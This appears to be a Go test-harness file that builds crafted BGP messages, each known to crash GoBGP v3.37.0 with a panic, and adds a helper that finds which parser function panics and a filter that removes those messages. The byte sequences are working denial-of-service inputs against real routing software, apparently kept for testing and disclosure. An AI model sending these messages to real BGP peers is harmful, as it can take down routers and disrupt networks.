package hostile

import (
	"runtime"
	"slices"
	"strings"

	"github.com/osrg/gobgp/v3/pkg/packet/bgp"
)

// Deadly are messages that end GoBGP v3.37.0 by a panic, one for each place known. SECURITY.md lists them.
func Deadly(p Peer) []Item {
	pre := join(attribute(transitive, origin, 0), path(p.ASN))
	mp := func(name string, kind byte, v ...byte) Item {
		return Item{Name: name, Bytes: update(nil, join(pre, attribute(optional, kind, v...)), nil)}
	}
	hop := append([]byte{16}, slices.Repeat([]byte{0xfd}, 16)...)
	sid := func(name string, tlv ...byte) Item {
		return Item{Name: name, Bytes: valid(p.ASN, attribute(optional|transitive, prefixSID, tlv...))}
	}
	return []Item{
		PathBeforePath(uint16(p.ASN)),
		UnknownSubTLV(p.ASN),
		sid("Prefix-SID with an SRv6 service TLV of length 0", 5, 0, 0, 0),
		sid("Prefix-SID with an empty SRv6 SID", 5, 0, 4, 0, 1, 0, 0),
		mp("MP_REACH of three octets", mpReach, 0, 2, 1),
		mp("MP_UNREACH of a VPN without a route distinguisher", mpUnreach, 0, 1, 128, 1),
		mp("MP_UNREACH of VPLS of one octet", mpUnreach, 0, 25, 65, 1),
		mp("MP_UNREACH of an IPv6 flow specification cut", mpUnreach, 0, 2, 133, 1, 2),
		mp("MP_UNREACH of a flow specification cut in a port", mpUnreach, 0, 1, 133, 3, 4, 0x30, 1),
		mp("MP_REACH of an SR policy cut", mpReach, join([]byte{0, 1, 73}, hop, []byte{0, 96, 2})...),
		{Name: "a message of unknown type", Bytes: Message(255)},
		{Name: "a message of unknown type in place of the OPEN", Phase: AsOpen, Bytes: Message(255)},
	}
}

// OpenAgain is an OPEN in a session that is up. GoBGP v3.37.0 takes it for an UPDATE, and panics where all peers' messages
// are handled: the report of that names no peer.
func OpenAgain(p Peer) Item { return Item{Name: "OPEN in a session that is up", Bytes: p.Open()} }

// ParserPanic parses one message as GoBGP's session does, and returns the function of GoBGP that panics over it; "" if none.
func ParserPanic(message []byte) (site string) {
	defer func() {
		if recover() == nil {
			return
		}
		site = "unknown"
		pcs := make([]uintptr, 64)
		frames := runtime.CallersFrames(pcs[:runtime.Callers(3, pcs)])
		for more := true; more; {
			var f runtime.Frame
			f, more = frames.Next()
			if _, name, ok := strings.Cut(f.Function, "/pkg/packet/bgp."); ok {
				site = name
				return
			}
		}
	}()
	h := &bgp.BGPHeader{}
	if len(message) < headerLen || h.DecodeFromBytes(message[:headerLen]) != nil || int(h.Len) > len(message) || h.Len < headerLen {
		return ""
	}
	m, err := bgp.ParseBGPBody(h, message[headerLen:h.Len:h.Len]) // GoBGP reads into a buffer of just this size
	if err != nil {
		return ""
	}
	if u, ok := m.Body.(*bgp.BGPUpdate); ok {
		families := map[bgp.RouteFamily]bgp.BGPAddPathMode{bgp.RF_IPv4_UC: 0, bgp.RF_IPv6_UC: 0}
		_, _ = bgp.ValidateUpdateMsg(u, families, true, false, false) // what it refuses is not the matter here
	}
	return ""
}

// Survivable are the items that GoBGP v3.37.0 should survive: without those of a kind known to be deadly.
func Survivable(items []Item) []Item {
	return slices.DeleteFunc(slices.Clone(items), func(i Item) bool { return ParserPanic(i.Bytes) != "" })
}
